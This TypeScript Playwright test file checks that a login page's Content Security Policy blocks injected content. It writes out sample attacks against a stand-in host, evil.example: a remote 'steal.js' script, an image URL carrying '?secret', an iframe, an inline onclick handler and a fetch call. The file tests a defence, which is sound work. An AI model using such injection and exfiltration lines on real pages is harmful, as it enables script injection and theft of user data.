import { expect, test } from "./fixtures.ts";

test.describe("a script that somebody got into a page", () => {
  test.use({ expectedProblem: /content security policy/i });

  test("does not run, wherever it stands", async ({ page }) => {
    await page.goto("/login");
    const violations: string[] = [];
    await page.exposeFunction("onViolation", (violation: string) => violations.push(violation));
    await page.evaluate(`
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        onViolation(effectiveDirective + " " + blockedURI));
      const add = (tag, properties) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
      };
      add("script", { textContent: "window.stolen = true" });
      add("script", { src: "https://evil.example/steal.js" });
      add("iframe", { src: "https://evil.example/" });
      add("img", { src: "https://evil.example/?secret" });
      const button = add("button");
      button.setAttribute("onclick", "window.stolen = true");
      button.click();
      fetch("https://evil.example/").catch(() => {});
    `);
    await expect
      .poll(() => violations.toSorted())
      .toEqual([
        "connect-src https://evil.example/",
        "frame-src https://evil.example",
        "img-src https://evil.example/?secret",
        "script-src-attr inline",
        "script-src-elem https://evil.example/steal.js",
        "script-src-elem inline",
      ]);
    expect(await page.evaluate("'stolen' in window")).toBe(false);
  });
});

test("the fixture of every test takes what the policy stops for a failure", async ({ page }) => {
  test.fail();
  await page.goto("/login");
  await page.addStyleTag({ content: "body { color: red }" });
});
